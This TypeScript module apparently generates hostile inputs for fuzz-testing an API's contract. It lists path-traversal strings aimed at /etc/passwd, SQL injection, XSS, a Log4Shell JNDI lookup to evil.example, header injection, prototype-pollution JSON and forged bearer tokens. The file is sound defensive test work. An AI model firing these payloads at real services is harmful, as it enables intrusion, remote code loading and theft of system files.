// Hostile inputs for the contract fuzz: strings, numbers, values, keys, ids, tokens, file names and
// whole bodies that a careless or malicious client may send. Values that JSON.stringify cannot
// express (1e999, nesting a hundred thousand deep, own `__proto__` keys, lone surrogates) travel as
// raw JSON text.
import fc from 'fast-check';

/** A piece of JSON text spliced in verbatim when a body is serialised. */
export class RawJson {
  constructor(
    readonly text: string,
    readonly label: string,
  ) {}
}

export const OBJECT_PROTOTYPE_NAMES = Object.getOwnPropertyNames(Object.prototype);

export const HOSTILE_STRINGS = [
  '',
  ' ',
  '.',
  '..',
  '../',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  '..%2F..%2Fsecrets',
  'a/b',
  '/',
  '//evil.example/x',
  'a\u0000b',
  '\u0000',
  '%00',
  '__proto__',
  'constructor',
  'prototype',
  '__name__',
  '__x__',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '<script>alert(1)</script>',
  "' OR '1'='1' --",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'a\r\nX-Injected: 1',
  '\u202egnp.exe',
  '\u200b',
  '\ufeff',
  '🎬🐋',
  'Ω≈ç√∫',
  'ｅｐ０１',
  '\t\n\v\f\r',
  '\u0001\u001f\u007f\u0085',
  'C:\\Windows\\System32',
  'CON',
  'file:///etc/passwd',
  'gs://other-bucket/x',
  'x'.repeat(257),
  'é'.repeat(3000),
];

const longString = fc.constantFrom(10_000, 100_000, 1_100_000).map((n) => 'ab'.repeat(n / 2));
export const hostileString = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: longString },
);

export const HOSTILE_NUMBERS = [0, -0, -1, 0.5, 1.5, -1.5, 2 ** 31, -(2 ** 31), 2 ** 53, 2 ** 53 + 2, -(2 ** 53), Number.MAX_VALUE, -Number.MAX_VALUE, Number.MIN_VALUE, Number.EPSILON, 1e21];
export const hostileNumber = fc.oneof(fc.constantFrom(...HOSTILE_NUMBERS), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.integer());

const nestedText = (depth: number, open: string, close: string) => open.repeat(depth) + '1' + close.repeat(depth);
/** Values only raw JSON text can carry. */
export const rawValue = fc.oneof(
  fc.constantFrom(
    new RawJson('1e999', 'Infinity (1e999)'),
    new RawJson('-1e999', '-Infinity (-1e999)'),
    new RawJson('"\\ud800"', 'a lone surrogate'),
    new RawJson('"a\\u0000b"', 'an escaped NUL'),
    new RawJson('{"__proto__":{"polluted":"yes"}}', 'an own __proto__ key'),
    new RawJson('{"constructor":{"prototype":{"polluted":"yes"}}}', 'constructor.prototype'),
    new RawJson('{"__proto__":{"admin":true},"admin":true}', '__proto__ with admin'),
  ),
  fc.constantFrom(21, 65, 1000, 100_000).chain((depth) =>
    fc.constantFrom(new RawJson(nestedText(depth, '[', ']'), `arrays nested ${depth} deep`), new RawJson(nestedText(depth, '{"a":', '}'), `objects nested ${depth} deep`)),
  ),
  fc.constantFrom(1_000, 50_000).map((n) => new RawJson(`[${Array(n).fill('0').join(',')}]`, `an array of ${n} numbers`)),
);

/** Anything at all, most of it the wrong type for the field it lands in. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 3, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 2, arbitrary: fc.array(fc.oneof(hostileString, hostileNumber), { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.dictionary(fc.constantFrom(...HOSTILE_STRINGS.slice(0, 20)), fc.oneof(hostileString, hostileNumber), { maxKeys: 4 }) },
  { weight: 3, arbitrary: rawValue },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

export const HOSTILE_KEYS = [...OBJECT_PROTOTYPE_NAMES, 'prototype', '', ' ', 'a.b', 'a/b', '$where', '__name__', '__x__', 'x'.repeat(1600), '🎬', 'id', 'uid', 'admin', 'updated_by', 'created_at', 'author', 'project_id', 'status'];

/** Ids for path parameters: refused by the id rules, or well formed but naming nothing. */
export const hostileId = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...HOSTILE_STRINGS.filter((s) => s !== '')) },
  { weight: 2, arbitrary: fc.stringMatching(/^zz[a-z0-9_]{1,30}$/) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 30 }) },
  { weight: 1, arbitrary: fc.constantFrom('x'.repeat(257), 'x'.repeat(1600)) },
);

/** Path segments sent as they are (not percent-encoded again). */
export const RAW_SEGMENTS = ['%E0%A4%A', '%', '%zz', '%252e%252e%252f', '%2e%2e', '..', '.', '%2F', '..%2F..%2F..%2Fetc%2Fpasswd', '%00', '%C0%AE%C0%AE', '%u002e', '%ED%A0%80'];

/** Query values for a parameter; numbers at the edges included. */
export const QUERY_EDGES = ['', '0', '-1', '-0', '1.5', '1e3', '1e309', 'NaN', 'Infinity', '0x1F', '9007199254740993', '+1', ' 1', '1 ', '١', 'true', 'yes', 'null', '[]', '{}'];
export const hostileQueryValue = fc.oneof(
  fc.constantFrom(...QUERY_EDGES),
  fc.constantFrom(...HOSTILE_STRINGS.filter((s) => s.length < 3000)),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.constantFrom(2_000, 5_000).map((n) => 'q'.repeat(n)),
);

export const hostilePageToken = fc.oneof(
  fc.constantFrom('x', '!!!!', 'e30', 'bnVsbA', 'W10', Buffer.from('{"p":0,"q":"","v":[]}').toString('base64url'), Buffer.from('{"p":1e999,"q":"x","v":[{"$ts":[1e20,0]}]}').toString('base64url')),
  fc.jsonValue({ maxDepth: 2 }).map((v) => Buffer.from(JSON.stringify(v) ?? 'null').toString('base64url')),
  fc.record({ p: hostileNumber, q: hostileString, v: fc.array(hostileValue, { maxLength: 3 }) }).map((v) => Buffer.from(JSON.stringify(v)).toString('base64url')),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }),
);

/** Authorization headers no request may get past. */
export function hostileAuthorizations(expiredToken: string, deletedUserToken: string, validToken: string): string[] {
  const [header, payload] = validToken.split('.');
  return [
    '',
    'Bearer',
    'Bearer ',
    'Basic YWRtaW46YWRtaW4=',
    'Bearer x',
    'Bearer a.b.c',
    'Bearer ..',
    'Bearer ../../etc/passwd',
    `Bearer ${'a'.repeat(8000)}.b.c`,
    `Token ${validToken}`,
    `Bearer ${validToken}.extra`,
    `Bearer ${header}.${payload}x.`,
    `Bearer ${expiredToken}`,
    `Bearer ${deletedUserToken}`,
  ];
}

/** If-Match values no stored document can match. */
export const HOSTILE_IF_MATCH = ['*', 'x', '""', '"1.000000000"', 'W/"1.000000000"', '"999999999999.999999999"', '"253402300800.000000000"', '"-1.0"', `"${'9'.repeat(40)}.000000000"`, '"1.0", "2.0"'];

/** JSON bodies that are not JSON at all. */
export const MALFORMED_JSON = ['{', '{"a":', '{"a":1,}', "{'a':1}", '{"a":NaN}', '{"a":undefined}', '[1,2', '"unterminated', '{"a":1}{"b":2}', '{"a":1} trailing', '\u0000', '/* comment */ {}', '{"a":0x10}', '{"a":.5}'];

export const WRONG_JSON_CONTENT_TYPES = ['text/plain', 'application/x-www-form-urlencoded', 'application/xml', 'multipart/form-data', 'application/octet-stream', 'application/json; charset=utf-16', 'application/json; charset=latin1'];
